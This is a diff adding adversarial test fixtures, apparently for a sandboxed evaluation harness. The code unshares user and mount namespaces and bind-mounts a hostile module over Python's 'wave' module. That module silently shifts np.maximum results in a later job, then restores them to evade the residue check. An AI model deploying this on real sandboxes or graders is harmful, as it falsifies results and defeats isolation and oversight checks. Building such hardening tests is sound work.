@@ -175,3 +175,46 @@ MODULE_BLOAT = """
 import os
 os.__dict__.update(dict.fromkeys([f"ks_r15_{i}" for i in range(1_000_000)], len))
 """
+
+# --- the worker's namespaces: a user and mount namespace of the job's own ----------------------
+# `unshare(CLONE_NEWUSER)` needs a single-threaded process: the ready worker has a second
+# thread, which END_A_THREAD ends. Then the worker enters a user namespace of its own (every
+# capability there) with a mount namespace it owns, and bind-mounts a file of its own over a
+# standard-library module no job has imported (`wave`): the file is at the module's own
+# path (not in a directory a job can write), so a later job's `import wave` runs it as
+# the interpreter's own. Here it adds 1 to `np.maximum`'s results for a few calls (the later
+# job's trials), then puts `np.maximum` back: nothing is left for the residue check.
+EVIL_MODULE = '''import numpy as _np
+
+_real, _calls = _np.maximum, [0]
+
+
+def _maximum(*args, **kwargs):
+    _calls[0] += 1
+    if _calls[0] >= 6:
+        _np.maximum = _real
+    return _real(*args, **kwargs) + 1
+
+
+_np.maximum = _maximum
+'''
+
+OWN_NAMESPACES = END_A_THREAD + '''
+import importlib.util
+libc = ctypes.CDLL(None, use_errno=True)
+uid, gid = os.getuid(), os.getgid()
+if libc.unshare(0x10000000 | 0x00020000) == 0:  # CLONE_NEWUSER | CLONE_NEWNS
+    for name, text in (("setgroups", "deny"), ("uid_map", f"{uid} {uid} 1"),
+                       ("gid_map", f"{gid} {gid} 1")):
+        with open(f"/proc/self/{name}", "w") as f:
+            f.write(text)
+    with open("/dev/shm/ks_r15_wave.py", "w") as f:
+        f.write(EVIL)
+    target = importlib.util.find_spec("wave").origin
+    libc.mount(b"/dev/shm/ks_r15_wave.py", target.encode(), None, 4096, None)  # MS_BIND
+'''.replace("EVIL", repr(EVIL_MODULE))
+
+# an honest numpy ReLU that imports `wave` (a module the ready worker has not loaded)
+WAVE_IMPORTING_RELU = NUMPY_RELU.replace("import torch\n", "import wave  # noqa: F401\nimport torch\n",
+                                         1)
+assert WAVE_IMPORTING_RELU != NUMPY_RELU
